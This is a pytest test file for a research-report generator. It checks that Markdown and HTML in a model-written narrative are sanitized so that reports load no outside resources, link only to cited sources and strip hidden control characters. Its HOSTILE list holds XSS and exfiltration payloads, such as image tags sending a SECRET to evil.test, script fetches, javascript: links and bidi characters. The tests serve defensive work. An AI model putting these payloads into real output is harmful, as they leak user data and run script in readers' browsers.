"""A report that any viewer may open: nothing of a model's narrative loads, leads away or hides."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt

from moothall import ScriptedModel
from moothall.research import Report, Researcher, Resource
from research.small_web import ALPHA, BETA, PAGES, evaluation, plan

CITED = "The alpha protocol uses port 4711.[^1^]"
HOSTILE = (
    "![chart](http://evil.test/leak?q=SECRET)",
    "![chart][1]\n\n[1]: http://evil.test/x.png",
    "![a\nb](\nhttp://evil.test/x.png\n)",
    "[![a](http://evil.test/a.png)](http://evil.test/b)",
    "![[http://evil.test/x.png]]",
    "<img src=http://evil.test/x.png>",
    "<img src='http://evil.test/x.png' onerror='alert(1)'",
    "<IMG/SRC=http://evil.test/x.png>",
    "<<b>img src=http://evil.test/x.png>",
    "<script>fetch('http://evil.test')</script>",
    "<svg onload=alert(1)>",
    "<!-- hidden --><iframe src=http://evil.test></iframe>",
    "<a href=http://evil.test>more</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "[more](javascript:alert(1))",
    "[more](JaVaScRiPt&colon;alert(1))",
    "[more](data:text/html,<script>alert(1)</script>)",
    "[more](<http://evil.test/?q=SECRET>)",
    "[more](http://evil.test/a(b)c 'title')",
    "[more]\n\n[more]: http://evil.test",
    "> [more]: http://evil.test\n\n[more][] and [x][more]",
    "[mo\nre]: http://evil.test\n\n[mo re]",
    "<javascript:alert(1)> and <http://evil.test>",
    "http://evil.test/?q=SECRET, www.evil.test and ftp://evil.test",
    "`` a ` <img src=http://evil.test> ` b",
    "x ` y\nz ` <img src=http://evil.test> ` w",
    "\\` a ` ![x](http://evil.test) ` b",
    "\\\\` a ` ![x](http://evil.test) ` b",
    "a | b\n--|--\n ` | ![x](http://evil.test) ` ",
    "- a\n  ```\n![x](http://evil.test)",
    "> ```\n![x](http://evil.test)",
    "```a`b\n![x](http://evil.test)\n```",
    "~~~\n```\n~~~\n![x](http://evil.test)",
    "````\n```\n````\n<img src=http://evil.test>",
    "```mermaid\nclick a href 'http://evil.test'\n```",
    "    <img src=http://evil.test>\n<img src=http://evil.test>",
    "&#x202e;gnp.exe &rlm;\u202e\u2066\u200b\x1b[31m\x07\U000e0041",
    "*[x](http://evil.test)* **![y](http://evil.test)**",
    "# [x](http://evil.test)\n\n1. ![y](http://evil.test)",
    "[x](http://web.test/alpha.evil.test)",
    "[x](http://web.test@evil.test/alpha)",
    "[x](//evil.test)",
    "```\nopen fence",
)


async def read(url: str) -> Resource:
    """Read a page."""
    return Resource(url, PAGES[url][0], True, PAGES[url][1])


def report_of(narrative: str) -> Report:
    tasks = plan(("read", {"url": ALPHA}), ("read", {"url": BETA}))
    model = ScriptedModel([tasks, narrative, evaluation({"port of alpha": 0.9})])
    return Researcher("r", model, "port of alpha", [read], 1).report_sync()


def tags(markdown: str, *, linkify: bool) -> Iterator[tuple[str, str]]:
    """The images, links and HTML that a viewer makes of Markdown."""
    viewer = MarkdownIt("commonmark", {"html": True, "linkify": linkify}).enable("table")
    if linkify:
        viewer.enable("linkify")
    for block in viewer.parse(markdown):
        for token in (block, *(block.children or ())):
            if token.type in ("html_block", "html_inline", "image"):
                yield token.type, token.content
            elif token.type == "link_open":
                yield "link", str(token.attrs["href"])
            elif token.type == "fence" and token.info == "mermaid":
                yield "drawn", token.info


@pytest.mark.parametrize("hostile", HOSTILE)
def test_report_of_a_hostile_narrative_loads_nothing_and_links_to_cited_sources_only(
    hostile: str,
) -> None:
    report = report_of(f"{CITED}\n\n{hostile}\n\nThe end.")
    assert {*tags(report.markdown, linkify=False)} == {("link", ALPHA)}
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069\U000e0041]", report.markdown
    )
    assert not re.search("&#x202e|&rlm", report.markdown)
    assert "## Sources" in report.markdown
    assert {each.passage.url for each in report.citations} == {ALPHA}


def test_report_link_to_a_cited_source_is_kept_with_its_host() -> None:
    said = f"{CITED} [Read more]({ALPHA}), or [less]({BETA}), at <{ALPHA}> or {ALPHA}."
    markdown = report_of(said).markdown
    assert f"[Read more]({ALPHA}) (web.test), or less," in markdown
    assert f"at <{ALPHA}> or {ALPHA}." in markdown


def test_report_code_and_comparisons_stay_as_they_are() -> None:
    said = "```python\nif a < b: print('<img>', x[1])\n```\n\n"
    said += "Since 1 < 2, a<b and c>d; `x[0]` is `<T>`."
    markdown = report_of(f"{CITED}\n\n{said}").markdown
    assert "if a < b: print('<img>', x[1])" in markdown
    shown = MarkdownIt().render(markdown)
    assert (
        "Since 1 &lt; 2, a&lt;b and c&gt;d; <code>x[0]</code> is <code>&lt; T&gt;</code>." in shown
    )


def test_report_text_of_what_is_left_out_stays() -> None:
    markdown = report_of(
        f"{CITED}\n\nSee ![the chart](http://e.test/c) <b>now</b> at [it](http://e.test)."
    ).markdown
    assert "See the chart now at it." in markdown


def test_report_of_a_narrative_of_ones_own_step_is_safe_too() -> None:
    from moothall.research import Narrate, Narrative

    class Own(Narrate):
        async def forward(self, researcher: object) -> Narrative:
            return Narrative("Own ![x](http://evil.test) <script>1</script>")

    model = ScriptedModel([plan(("read", {"url": ALPHA})), evaluation({"alpha": 0.9})])
    report = Researcher("r", model, "alpha", [read], 1, narrate=Own()).report_sync()
    assert "Own x" in report.markdown
    assert "evil" not in report.markdown
    assert "script" not in report.markdown


PATHOLOGICAL = (
    *("` `` ", "`a ", "<!--", "<script>", "[", "[a ", "![x](", "[x](", "&", "<a ", "[^", "[1,"),
    *("http://", "]:", "\\", "```\n", "~~~\n", "<think>", "{", '{"', "<a@", "(1", "[1](", "[x] "),
)


@pytest.mark.parametrize("piece", PATHOLOGICAL)
def test_report_of_a_pathological_narrative_takes_little_time(piece: str) -> None:
    from moothall.research.writing.footnote_forms import with_footnotes
    from moothall.research.writing.json_in_text import values_in
    from moothall.research.writing.safe_markdown import safe_markdown

    narrative = piece * (20_000 // len(piece))
    began = time.process_time()
    safe_markdown(with_footnotes(narrative, {1, 2}))
    values_in(narrative)
    assert time.process_time() - began < 2
